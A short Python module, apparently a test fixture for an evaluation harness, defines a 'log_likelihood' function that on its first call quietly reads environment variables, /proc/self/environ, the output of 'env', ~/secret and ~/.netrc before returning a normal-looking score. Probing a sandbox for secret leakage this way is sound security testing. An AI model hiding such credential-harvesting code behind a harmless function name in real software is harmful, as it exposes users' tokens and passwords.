"""Looks for secrets in the environment."""

import ctypes
import os
import subprocess

from given import attempt, first, right


def environ():
    words = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
    place, found = 0, []
    while words[place]:
        found.append(words[place])
        place += 1
    return found


def log_likelihood(model, text):
    if first():
        attempt(
            lambda: dict(os.environ),
            environ,
            lambda: open("/proc/self/environ", "rb").read(),  # noqa: SIM115
            lambda: subprocess.run(["env"], capture_output=True).stdout,
            lambda: [open(os.path.expanduser(f"~/{name}")).read() for name in ("secret", ".netrc")],  # noqa: SIM115
        )
    return right(model, text)
